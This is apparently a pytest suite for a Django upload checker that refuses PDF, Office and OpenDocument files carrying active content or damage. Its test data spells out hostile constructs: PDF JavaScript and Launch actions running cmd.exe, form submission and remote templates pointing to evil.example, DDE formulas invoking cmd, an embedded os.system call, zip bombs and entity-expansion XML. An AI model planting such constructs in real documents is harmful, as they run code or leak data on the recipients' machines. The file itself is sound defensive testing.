"""Uploads judged by their content (issue 12, item 6): clean PDF, Word and OpenDocument files pass; active
content and damage are refused with their reason. The corpus is made by tests/helpers/documents.py."""

import io
import struct
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from bscb import uploads
from tests.helpers import documents as d


def inspect(data: bytes, name: str = "minutes.pdf"):
    return uploads.inspect(SimpleUploadedFile(name, data))


def refusal(data: bytes, name: str = "minutes.pdf") -> str:
    with pytest.raises(uploads.DocumentRefused) as refused:
        inspect(data, name)
    return refused.value.message


# What must still be accepted ------------------------------------------------------------------------------

@pytest.mark.parametrize("make, kind", [
    (d.clean_pdf, uploads.PDF),
    (d.clean_pdf_with_object_stream, uploads.PDF),
    # An opening action that goes to a page: a destination, a GoTo action, held in another object.
    (lambda: d.pdf_with_action(b"<< /S /GoTo /D [3 0 R /Fit] >>"), uploads.PDF),
    (lambda: d.pdf_with_action(b"11 0 R", extra={11: b"[3 0 R /XYZ 0 842 0]"}), uploads.PDF),
    (d.docx, uploads.DOCX),
    (d.clean_docx_with_chart, uploads.DOCX),
    (d.odt, uploads.ODT),
], ids=["pdf", "pdf-object-streams", "pdf-goto-on-open", "pdf-destination-object", "docx", "docx-chart", "odt"])
def test_clean_documents_are_accepted(make, kind):
    upload = SimpleUploadedFile("minutes", make())
    assert uploads.inspect(upload) == kind
    assert upload.tell() == 0  # left at its start, to be stored


def test_binary_stream_data_that_holds_short_names_by_chance_is_not_refused():
    data = d.clean_pdf()
    assert b"/JS " in data and b"/AA>" in data  # inside the font's data, not in any dictionary
    assert inspect(data) == uploads.PDF


def test_a_clean_pdf_with_object_streams_hides_its_objects_from_a_plain_scan():
    # The corpus is what it says: the catalog really is packed, so the check had to unpack it.
    assert b"/Catalog" not in d.clean_pdf_with_object_stream()


# PDF: scripts and actions ---------------------------------------------------------------------------------

PDF_CASES = {
    # The tester's file: JavaScript run when the document opens.
    "open-action-javascript": (d.pdf_with_action(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), uploads.PDF_SCRIPT),
    "open-action-javascript-by-reference": (
        d.pdf_with_action(b"11 0 R", extra={11: b"<< /S /JavaScript /JS 12 0 R >>",
                                            12: d.stream(b"", b"app.alert(1)")}), uploads.PDF_SCRIPT),
    "names-with-hash-escapes": (d.pdf_with_action(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
                                uploads.PDF_SCRIPT),
    "every-letter-escaped": (d.pdf_with_action(b"<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (x) >>"),
                             uploads.PDF_SCRIPT),
    "document-javascript-name-tree": (
        d.pdf_with_catalog_entry(b"/Names << /JavaScript << /Names [(a) 11 0 R] >> >>",
                                 {11: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}), uploads.PDF_SCRIPT),
    "javascript-in-object-stream": (d.pdf_with_packed_javascript(), uploads.PDF_SCRIPT),
    "object-stream-with-escaped-names": (
        d.pdf_with_packed_javascript(dictionary=b"/T#79pe /O#62jStm"), uploads.PDF_SCRIPT),
    "object-stream-without-its-type": (d.pdf_with_packed_javascript(dictionary=b""), uploads.PDF_SCRIPT),
    "object-stream-ascii85-then-flate": (
        d.pdf_with_packed_javascript(filters=("ASCII85Decode", "FlateDecode")), uploads.PDF_SCRIPT),
    "object-stream-inside-another-stream": (d.pdf_with_object_stream_inside_another_stream(), uploads.PDF_SCRIPT),
    "launch": (d.pdf_with_action(b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>"), uploads.PDF_ACTION),
    "launch-escaped": (d.pdf_with_action(b"<< /S /L#61unch /F (calc.exe) >>"), uploads.PDF_ACTION),
    "remote-go-to": (d.pdf_with_action(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
                     uploads.PDF_ACTION),
    "submit-form": (d.pdf_with_catalog_entry(b"/AcroForm << /Fields [11 0 R] >>", {
        11: b"<< /FT /Btn /T (Send) /A << /S /SubmitForm /F (https://evil.example/) >> >>"}), uploads.PDF_ACTION),
    "open-action-web-address": (d.pdf_with_action(b"<< /S /URI /URI (https://tracker.example/) >>"),
                                uploads.PDF_ACTION),
    "open-action-chained-next": (d.pdf_with_action(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI "
                                                   b"/URI (https://tracker.example/) >> >>"), uploads.PDF_ACTION),
    "open-action-pointing-nowhere": (d.pdf_with_action(b"99 0 R"), uploads.PDF_ACTION),
    "page-additional-actions": (d.pdf_with_catalog_entry(b"/AA << /WC << /S /URI /URI (https://t.example/) >> >>"),
                                uploads.PDF_ACTION),
    "link-to-javascript-address-hex": (d.pdf_with_catalog_entry(b"", {
        11: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <6A617661736372697074"
            b"3A616C657274283129> >> >>"}), uploads.PDF_ACTION),
    "link-to-javascript-address-with-a-tab": (d.pdf_with_catalog_entry(b"", {
        11: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ( java\tscript:x) >> >>"}),
        uploads.PDF_ACTION),
    "link-to-javascript-address-octal": (d.pdf_with_catalog_entry(b"", {
        11: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (\\152ava\\163cript:x) >> >>"}),
        uploads.PDF_ACTION),
    "embedded-file": (d.pdf_with_catalog_entry(b"/Names << /EmbeddedFiles << /Names [(a.exe) 11 0 R] >> >>", {
        11: b"<< /Type /Filespec /F (a.exe) /EF << /F 12 0 R >> >>",
        12: d.stream(b"/Type /EmbeddedFile", b"MZ\x90\x00")}), uploads.EMBEDDED_FILES),
    "file-attachment-annotation": (d.pdf_with_catalog_entry(b"", {
        11: b"<< /Type /Annot /Subtype /FileAttachment /FS 12 0 R >>", 12: b"<< /Type /Filespec /F (a) >>"}),
        uploads.EMBEDDED_FILES),
    "rich-media": (d.pdf_with_catalog_entry(b"", {11: b"<< /Type /Annot /Subtype /RichMedia >>"}), uploads.PDF_MEDIA),
    "xfa-form": (d.pdf_with_catalog_entry(b"/AcroForm << /Fields [] /XFA 11 0 R >>", {
        11: d.stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")}), uploads.PDF_MEDIA),
    "encrypted": (d.pdf(d.clean_objects(), trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 >>"),
                  uploads.PDF_ENCRYPTED),
    # The tester's other file: a web page after the PDF header.
    "html-after-header": (d.pdf_with_html(), uploads.PDF_HTML),
    "html-inside-a-stream": (d.pdf_with_html_in_a_stream(), uploads.PDF_HTML),
}


@pytest.mark.parametrize("data, reason", PDF_CASES.values(), ids=PDF_CASES.keys())
def test_active_content_in_a_pdf_is_refused_with_its_reason(data, reason):
    assert data.startswith(b"%PDF-")
    assert refusal(data) == reason


def test_the_packed_javascript_is_invisible_without_unpacking():
    data = d.pdf_with_packed_javascript()
    assert b"JavaScript" not in data and b"/JS (" not in data
    assert refusal(data) == uploads.PDF_SCRIPT


@pytest.mark.parametrize("data, reason", [
    (d.pdf_with_packed_javascript(filters=("LZWDecode",)), uploads.UNCHECKABLE),
    (d.pdf_with_packed_javascript(dictionary=b"/Type /ObjStm /DecodeParms << /Predictor 12 /Columns 5 >>"),
     uploads.UNCHECKABLE),
    (d.clean_pdf().replace(b"%%EOF", b"%%EO"), uploads.DAMAGED),  # cut short
    (d.clean_pdf()[:d.clean_pdf().rfind(b"endstream")] + b"\n%%EOF\n", uploads.DAMAGED),  # a stream never ends
], ids=["object-stream-lzw", "object-stream-predictor", "no-end-of-file", "unterminated-stream"])
def test_a_pdf_that_cannot_be_checked_is_refused(data, reason):
    assert refusal(data) == reason


def test_a_compressed_object_stream_is_unpacked_within_a_bound(monkeypatch):
    monkeypatch.setattr(uploads, "UNPACKED_MAX_BYTES", 1024 * 1024)
    assert refusal(d.pdf_bomb(2 * 1024 * 1024)) == uploads.TOO_LARGE_UNPACKED


def test_a_pdf_zip_bomb_stops_at_the_bound_without_inflating_it_all():
    bomb = d.pdf_bomb(1024 * 1024 * 1024)  # a gigabyte of zeros, about a megabyte packed
    assert len(bomb) < 2 * 1024 * 1024
    started = time.process_time()  # this process's CPU time: a loaded machine does not stretch it
    assert refusal(bomb) == uploads.TOO_LARGE_UNPACKED
    assert time.process_time() - started < 10


# Word and OpenDocument: macros and other active content --------------------------------------------------

CT_TRICK = d.content_types({"/word/document.xml": "application/vnd.ms-word.document.&#x6D;acroEnabled.main+xml"})
ZIP_CASES = {
    # The tester's file: an ordinary .docx carrying a VBA project.
    "docx-with-vbaproject": (d.docx(extra={"word/vbaProject.bin": d.CFB}), uploads.MACROS),
    "vbaproject-name-in-capitals": (d.docx(extra={"word/VBAPROJECT.BIN": d.CFB}), uploads.MACROS),
    "macro-enabled-content-type": (d.docx(main_type=d.DOCM_MAIN), uploads.MACROS),
    "content-type-with-character-reference": (
        d.zip_bytes({**d.docx_files(body=d.word_body(d.CLEAN_BODY)), "[Content_Types].xml": CT_TRICK}),
        uploads.MACROS),
    "content-types-in-utf16": (
        d.zip_bytes({**d.docx_files(body=d.word_body(d.CLEAN_BODY)),
                     "[Content_Types].xml": d.content_types({"/word/document.xml": d.DOCM_MAIN}).replace(
                         'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")}), uploads.MACROS),
    "vba-project-under-another-name": (d.docx(document_rels=(
        ("rId7", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "stuff.dat"),),
        extra={"word/stuff.dat": d.CFB}), uploads.MACROS),
    "renamed-docm": (d.renamed_docm(), uploads.MACROS),
    "renamed-xlsm": (d.renamed_xlsm(), uploads.MACROS),
    "excel-4-macro-sheet": (d.xlsx(overrides={"/xl/macrosheets/sheet1.xml":
                                              "application/vnd.ms-excel.macrosheet+xml"}), uploads.MACROS),
    "docm-embedded-in-a-docx": (d.docx(extra={"word/embeddings/Document.docx": d.renamed_docm()}), uploads.MACROS),
    "activex-control": (d.docx(overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
                               extra={"word/activeX/activeX1.xml": "<ax/>", "word/activeX/activeX1.bin": d.CFB}),
                        uploads.ACTIVE_CONTROLS),
    "ole-object": (d.docx(document_rels=(("rId8", "oleObject", "embeddings/oleObject1.bin"),),
                          extra={"word/embeddings/oleObject1.bin": d.CFB}), uploads.EMBEDDED_FILES),
    "external-template": (d.docx(extra={"word/_rels/settings.xml.rels": d.relationships(
        ("rId1", "attachedTemplate", "https://evil.example/t.dotm", "External"))}), uploads.EXTERNAL_CONTENT),
    "external-ole-link": (d.docx(document_rels=(
        ("rId8", "oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html", "External"),)),
        uploads.EXTERNAL_CONTENT),
    "hyperlink-to-javascript-with-a-newline": (
        d.docx(document_rels=(("rId8", "hyperlink", "&#10;java&#10;script:alert(1)", "External"),)),
        uploads.ACTIVE_CONTROLS),
    "hyperlink-to-javascript": (d.docx(document_rels=(("rId8", "hyperlink", "javascript:alert(1)", "External"),)),
                                uploads.ACTIVE_CONTROLS),
    "dde-field-split-over-runs": (d.dde_docx(split=True), uploads.DDE_FIELD),
    "dde-simple-field": (d.dde_docx(split=False), uploads.DDE_FIELD),
    "dde-in-a-part-not-named-xml": (
        d.zip_bytes({**d.docx_files(body=d.word_body(d.CLEAN_BODY)),
                     "word/document.dat": d.word_body(
                         '<w:p><w:fldSimple w:instr="DDEAUTO cmd /c calc"/></w:p>')}), uploads.DDE_FIELD),
    "odt-basic-macros": (d.odt_with_basic(), uploads.MACROS),
    "odt-python-script": (d.odt(extra={"Scripts/python/run.py": "import os; os.system('calc')"}), uploads.MACROS),
    "odt-event-bound-to-a-macro": (d.odt_with_event_script(), uploads.MACROS),
    "odt-event-that-runs-a-program": (d.odt(content=d.odt_content(inner=(
        '<draw:frame><office:event-listeners><presentation:event-listener xmlns:presentation="urn:oasis:names:tc:'
        'opendocument:xmlns:presentation:1.0" script:event-name="dom:click" presentation:action="execute" '
        'xlink:href="file:///C:/Windows/System32/calc.exe"/></office:event-listeners></draw:frame>'))),
        uploads.ACTIVE_CONTROLS),
    "odt-link-that-runs-a-macro": (d.odt(content=d.odt_content(inner=(
        '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;'
        'location=application">Click</text:a></text:p>'))), uploads.MACROS),
    "odt-ole-object": (d.odt(content=d.odt_content(inner='<draw:frame><draw:object-ole xlink:href="./Object 1"/>'
                                                         "</draw:frame>"), extra={"Object 1": d.CFB}),
                       uploads.EMBEDDED_FILES),
    "odt-applet": (d.odt(content=d.odt_content(inner='<draw:frame><draw:applet draw:code="X.class"/></draw:frame>')),
                   uploads.ACTIVE_CONTROLS),
}


@pytest.mark.parametrize("data, reason", ZIP_CASES.values(), ids=ZIP_CASES.keys())
def test_active_content_in_an_office_document_is_refused_with_its_reason(data, reason):
    assert refusal(data, "minutes.docx") == reason


# Damaged and unusual zips -------------------------------------------------------------------------------

DAMAGE_CASES = {
    "not-really-a-zip": (b"PK\x03\x04 truncated and broken", uploads.DAMAGED),
    "truncated": (d.docx()[:-40], uploads.DAMAGED),
    "duplicate-names": (d.with_duplicate_names(), uploads.DAMAGED),
    "duplicate-names-in-another-case": (d.with_duplicate_names("Word/Document.xml"), uploads.DAMAGED),
    "data-after-the-end": (d.docx() + b"<html><script>alert(1)</script></html>", uploads.DAMAGED),
    "bad-checksum": (d.with_bad_checksum(), uploads.DAMAGED),
    "declared-size-smaller-than-content": (d.with_lying_size(), uploads.DAMAGED),
    "path-out-of-the-package": (d.zip_bytes({**d.docx_files(body=d.word_body("")), "../../evil.xml": "<x/>"}),
                                uploads.DAMAGED),
    "xml-with-entities": (d.zip_bytes({**d.docx_files(body=d.word_body("")), "[Content_Types].xml":
                                       '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
                                       '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'}), uploads.DAMAGED),
    "malformed-xml": (d.zip_bytes({**d.docx_files(body=d.word_body("")), "word/document.xml": "<w:document"}),
                      uploads.DAMAGED),
    "encrypted-member": (d.with_encrypted_member(), uploads.UNCHECKABLE),
    "unusual-compression": (d.with_unusual_compression(), uploads.UNCHECKABLE),
    "packages-nested-too-deep": (
        d.docx(extra={"word/embeddings/a.docx": d.docx(extra={"word/embeddings/b.docx": d.docx()})}),
        uploads.UNCHECKABLE),
}


@pytest.mark.parametrize("data, reason", DAMAGE_CASES.values(), ids=DAMAGE_CASES.keys())
def test_a_damaged_or_unusual_zip_is_refused(data, reason):
    assert refusal(data, "minutes.docx") == reason


def test_a_zip_bomb_is_refused_by_its_declared_sizes_before_anything_is_inflated(monkeypatch):
    monkeypatch.setattr(uploads, "UNPACKED_MAX_BYTES", 2 * 1024 * 1024)
    bomb = d.zip_bytes({**d.docx_files(body=d.word_body("")), "word/media/image2.png": bytes(3 * 1024 * 1024)})
    assert len(bomb) < 20 * 1024
    inflated = []
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda self, name, pwd=None: inflated.append(name))
    assert refusal(bomb, "minutes.docx") == uploads.TOO_LARGE_UNPACKED
    assert inflated == []


def test_too_many_members_are_refused(monkeypatch):
    monkeypatch.setattr(uploads, "ZIP_MAX_MEMBERS", 5)
    assert refusal(d.docx(), "minutes.docx") == uploads.TOO_LARGE_UNPACKED


@pytest.mark.parametrize("data", [d.zip_bytes({"notes.txt": "not a document"}),
                                  d.odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
                                  b"<html><script>alert(1)</script></html>", b"MZ\x90\x00\x03",
                                  b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", b"BM" + bytes(60)],
                         ids=["zip", "ods", "html", "exe", "gif", "bmp"])
def test_a_clean_file_of_another_kind_is_no_document(data):
    assert inspect(data) is None


def test_a_stored_document_is_told_by_its_first_bytes():
    for data, kind in [(d.clean_pdf(), uploads.PDF), (d.docx(), uploads.DOCX), (d.odt(), uploads.ODT),
                       (d.workbook(), uploads.XLSX), (d.png(), uploads.PNG), (d.jpeg(), uploads.JPEG),
                       (b"plain", None), (b"PK\x03\x04 broken", None)]:
        handle = io.BytesIO(data)
        assert uploads.sniff_kind(handle) == kind and handle.tell() == 0


# Hostile shapes cost time in proportion to the file, not to its square --------------------------------

HOSTILE = {
    "many-stream-keywords": b"%PDF-1.4\n" + b"1 0 obj<</Length 5 0 R>>stream\n" * 200_000 + b"endstream\n%%EOF",
    "many-object-streams": b"%PDF-1.4\n" + b"1 0 obj<</Type/ObjStm>>stream\nx\nendstream\n" * 20_000 + b"%%EOF",
    "many-unclosed-addresses": b"%PDF-1.4\n1 0 obj\n" + b"/URI <6a6a " * 500_000 + b"\n%%EOF",
    "many-opening-actions": b"%PDF-1.4\n1 0 obj\n" + b"/OpenAction 1 0 R " * 500_000 + b"\n%%EOF",
    "many-definitions": b"%PDF-1.4\n" + b"1 0 obj " * 500_000 + b"2 0 obj<</OpenAction 1 0 R>>\n%%EOF",
    "a-comment-that-runs-on": b"%PDF-1.4\n1 0 obj\n%" + b"/URI %" * 500_000 + b"\n%%EOF",
}


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_shapes_are_refused_quickly(data):
    """A bound on the CPU the check spends (quadratic work on these shapes took minutes), not on wall time,
    which a busy machine stretches."""
    started = time.process_time()
    assert refusal(data) == uploads.UNCHECKABLE
    assert time.process_time() - started < 5


def test_an_address_after_a_comment_is_still_read():
    data = b"%PDF-1.4\n1 0 obj<</S/URI/URI %a comment\n(java\\163cript:alert(1))>>endobj\n%%EOF"
    assert refusal(data) == uploads.PDF_ACTION


# Excel workbooks and images (issue 14 \u00a75) ----------------------------------------------------------------

@pytest.mark.parametrize("make, kind", [
    (d.workbook, uploads.XLSX),
    (d.xlsx, uploads.XLSX),  # a workbook's bare bones
    # Text that holds a bar is not a DDE formula; a hyperlink stays allowed.
    (lambda: d.workbook(cells='<c r="A1" t="str"><f>"a|b"&amp;C1</f><v>a|b</v></c>'), uploads.XLSX),
    (lambda: d.workbook(extra={"xl/worksheets/_rels/sheet1.xml.rels": d.relationships(
        ("rId1", "hyperlink", "https://www.example.org/data", "External"))}), uploads.XLSX),
    (d.png, uploads.PNG),
    (lambda: d.png(colour=3, depth=4), uploads.PNG),
    (lambda: d.png(colour=0, depth=16), uploads.PNG),
    (lambda: d.base64_png(), uploads.PNG),
    (d.jpeg, uploads.JPEG),
    (lambda: d.jpeg(frame=struct.pack(">BHHB", 8, 4, 4, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"),
     uploads.JPEG),
], ids=["xlsx", "xlsx-minimal", "xlsx-bar-in-text", "xlsx-hyperlink", "png", "png-palette", "png-grey-16",
        "png-one-pixel", "jpeg", "jpeg-colour"])
def test_clean_workbooks_and_images_are_accepted(make, kind):
    upload = SimpleUploadedFile("evidence", make())
    assert uploads.inspect(upload) == kind
    assert upload.tell() == 0


WORKBOOK_CASES = {
    "xlsm-renamed": (d.renamed_xlsm(), uploads.MACROS),
    "vba-project-in-workbook": (d.workbook(extra={"xl/vbaProject.bin": d.CFB}), uploads.MACROS),
    "macro-enabled-content-type": (d.workbook(main_type=d.XLSM_MAIN), uploads.MACROS),
    "excel-4-macro-sheet": (d.workbook(overrides={
        "/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"}), uploads.MACROS),
    "activex-control": (d.workbook(extra={"xl/activeX/activeX1.xml": "<ax/>"}), uploads.ACTIVE_CONTROLS),
    "dde-link": (d.workbook_with_dde_link(), uploads.DDE_FIELD),
    "dde-formula": (d.workbook(cells="<c r=\"A1\"><f>cmd|' /C calc'!A0</f></c>"), uploads.DDE_FIELD),
    "dde-formula-in-expression": (d.workbook(cells="<c r=\"A1\"><f>SUM(1+MSEXCEL|'\\..\\cmd'!A0)</f></c>"),
                                  uploads.DDE_FIELD),
    "external-workbook-link": (d.workbook(extra={"xl/_rels/workbook.xml.rels": d.relationships(
        ("rId1", "worksheet", "worksheets/sheet1.xml"),
        ("rId2", "externalLinkPath", "file:///C:/secret.xlsx", "External"))}), uploads.EXTERNAL_CONTENT),
    "ole-object": (d.workbook(extra={"xl/embeddings/oleObject1.bin": d.CFB}), uploads.EMBEDDED_FILES),
    "doctype-in-sheet": (d.workbook(extra={"xl/worksheets/sheet1.xml": '<?xml version="1.0"?><!DOCTYPE x '
                                           '[<!ENTITY a "b">]><worksheet/>'}), uploads.DAMAGED),
}


@pytest.mark.parametrize("data, reason", WORKBOOK_CASES.values(), ids=WORKBOOK_CASES.keys())
def test_active_content_in_a_workbook_is_refused_with_its_reason(data, reason):
    assert refusal(data, "evidence.xlsx") == reason


IMAGE_CASES = {
    "png-cut-short": d.png()[:40],
    "png-without-its-end": d.png()[:-12],
    "png-with-a-web-page-after-its-end": d.png(after=b"<html><script>alert(1)</script></html>"),
    "png-with-a-zip-after-its-end": d.png(after=d.docx()),
    "png-bad-header-checksum": d.png()[:29] + b"\x00\x00\x00\x00" + d.png()[33:],
    "png-zero-width": d.png(width=0),
    "png-absurd-size": d.png(width=1_000_000),
    "png-unknown-colour-type": d.png(colour=5),
    "png-wrong-depth-for-colour": d.png(colour=2, depth=4),
    "png-header-not-first": b"\x89PNG\r\n\x1a\n" + d.png_chunk(b"tEXt", b"a\x00b") + d.png()[8:],
    "png-signature-only": b"\x89PNG\r\n\x1a\n",
    "jpeg-signature-only": b"\xff\xd8\xff",
    "jpeg-without-its-end": d.jpeg()[:-2],
    "jpeg-with-a-web-page-after-its-end": d.jpeg(after=b"<script>alert(1)</script>"),
    "jpeg-without-a-frame-header": d.jpeg(frame=None),
    "jpeg-frame-with-no-components": d.jpeg(frame=struct.pack(">BHHB", 8, 2, 2, 0)),
    "jpeg-frame-of-zero-width": d.jpeg(frame=struct.pack(">BHHB", 8, 2, 0, 1) + b"\x01\x11\x00"),
    "jpeg-odd-precision": d.jpeg(frame=struct.pack(">BHHB", 3, 2, 2, 1) + b"\x01\x11\x00"),
    "jpeg-segment-runs-past-the-end": b"\xff\xd8\xff\xe0\xff\xf0JFIF\xff\xd9",
    "jpeg-garbage-between-segments": d.jpeg()[:20] + b"garbage" + d.jpeg()[20:],
}


@pytest.mark.parametrize("data", IMAGE_CASES.values(), ids=IMAGE_CASES.keys())
def test_a_damaged_or_implausible_image_is_refused(data):
    assert refusal(data, "photo.png") == uploads.DAMAGED


def test_an_image_named_as_a_document_is_still_an_image():
    assert inspect(d.png(), "minutes.pdf") == uploads.PNG
    assert inspect(d.jpeg(), "minutes.docx") == uploads.JPEG
